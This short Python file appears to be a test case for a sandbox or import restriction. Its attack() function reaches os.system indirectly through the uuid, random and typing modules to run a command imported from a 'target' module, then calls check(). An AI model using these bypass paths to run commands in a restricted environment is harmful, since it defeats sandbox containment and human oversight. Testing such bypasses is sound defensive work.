import random
import typing
import uuid

from target import COMMAND, check


def attack():
    uuid.os.system(COMMAND)
    random._os.system(COMMAND)
    typing.sys.modules["os"].system(COMMAND)
    return check()
